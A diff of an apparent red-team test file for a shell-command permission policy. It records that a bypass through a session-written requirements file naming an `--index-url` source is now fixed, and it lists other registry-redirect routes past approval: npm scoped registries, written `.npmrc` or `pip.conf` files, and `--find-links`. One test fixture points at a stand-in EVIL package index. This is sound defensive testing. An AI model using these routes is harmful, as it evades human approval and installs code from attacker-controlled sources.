@@ -36,10 +36,10 @@ Found allowed, and fixed (data in policies/executors.yaml unless said):
    `print > $1`. Python-yq's `-s` is jq's --slurp: the same spelling asks there too (`--slurp` does not).
    Checked, already asking: `csplit -f PREFIX`, `awk '{print > $1}'`, `split --filter=CMD`.
 
-Open (strict xfail below): a requirements file the session wrote naming a source (`printf -- '--index-url URL\\nx\\n'
-> r.txt; pip install -r r.txt`) is not read. Noticed, not fixed: npm's scoped registry option
-`--@scope:registry=URL`, a `.npmrc` / `pip.conf` / `uv.toml` the session wrote naming a registry, `pip install
---find-links ./dir` of archives the session wrote there.
+Open at stop 46, fixed by env47 (tests/redteam/test_env47.py): a requirements file the session wrote naming a source
+(`printf -- '--index-url URL\\nx\\n' > r.txt; pip install -r r.txt`) was not read. Noticed, not fixed: npm's scoped
+registry option `--@scope:registry=URL` (env47 reads it now), a `.npmrc` / `pip.conf` / `uv.toml` the session wrote
+naming a registry, `pip install --find-links ./dir` of archives the session wrote there.
 """
 
 from __future__ import annotations
@@ -303,7 +303,6 @@ def test_lldb_reads_a_command_file_the_session_did_not_write_as_gdb_does(plain_p
     assert gone == {"lldb -s gone_cmds": "ask", "gdb -x gone_cmds": "ask"}
 
 
-@pytest.mark.xfail(strict=True, reason="a written requirements file's --index-url / git+ lines are not read (open)")
 def test_a_written_requirements_file_naming_a_source(plain_project: tuple[Path, Engine]) -> None:
     case = ({"r.txt": f"--index-url {EVIL}/simple\nrequests\n"}, "pip install -r r.txt")
     assert case_verdict(plain_project, case, "open-requirements") != "allow"
